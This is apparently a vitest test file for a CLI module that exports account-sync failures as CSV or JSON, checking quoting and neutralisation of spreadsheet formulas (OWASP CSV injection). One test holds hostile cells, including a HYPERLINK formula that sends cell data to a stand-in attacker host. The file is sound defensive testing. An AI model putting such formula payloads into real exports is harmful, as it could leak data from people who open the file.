import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { FAILURE_COLUMNS, formatFailures, neutraliseFormula } from '../../../src/cli/sync/failure-export';
import type { RecordFailure } from '../../../src/domain/record-failure';

const failures: RecordFailure[] = [
  {
    accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
    accountNumber: 'ACC-01001-ABCDEF',
    company: 'usmf',
    field: 'name',
    value: 'Contoso, "The" Company\nLine two',
    code: 'TOO_LONG',
    reason: "Account 'ACC-01001-ABCDEF': name is longer than 100 characters, ümlauts and all",
  },
  { accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3302', code: 'MISSING_ACCOUNT_NUMBER', reason: 'no number' },
];

describe('failure export', () => {
  it('writes CSV with a header and quoting that survives commas, quotes and line breaks', () => {
    const csv = formatFailures(failures, 'csv');
    expect(csv.split('\n')[0]).toBe(FAILURE_COLUMNS.join(','));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      { ...failures[0] },
      { accountId: failures[1]?.accountId, accountNumber: '', company: '', field: '', value: '', code: 'MISSING_ACCOUNT_NUMBER', reason: 'no number' },
    ]);
  });

  it('writes JSON as an array of the records', () => {
    expect(JSON.parse(formatFailures(failures, 'json'))).toEqual(failures);
    expect(formatFailures([], 'csv')).toBe(`${FAILURE_COLUMNS.join(',')}\n`);
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection), in CSV only', () => {
    const hostile: RecordFailure[] = [
      {
        accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3303',
        accountNumber: '@SUM(A1:A9)',
        field: 'name',
        value: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        code: 'TOO_LONG',
        reason: '+1 more',
      },
      { accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3304', accountNumber: '-2+3', field: 'telephone1', value: '\tcmd', code: 'FNO_REJECTED', reason: '\rX' },
    ];
    const rows = parse(formatFailures(hostile, 'csv'), { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      {
        accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3303',
        accountNumber: "'@SUM(A1:A9)",
        company: '',
        field: 'name',
        value: `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
        code: 'TOO_LONG',
        reason: "'+1 more",
      },
      { accountId: '3f2504e0-4f89-11d3-9a0c-0305e82c3304', accountNumber: "'-2+3", company: '', field: 'telephone1', value: "'\tcmd", code: 'FNO_REJECTED', reason: "'\rX" },
    ]);
    expect(JSON.parse(formatFailures(hostile, 'json'))).toEqual(hostile);
    for (const safe of ['ACC-1', 'a=b', ' =x', '', "'quoted"]) expect(neutraliseFormula(safe)).toBe(safe);
  });
});
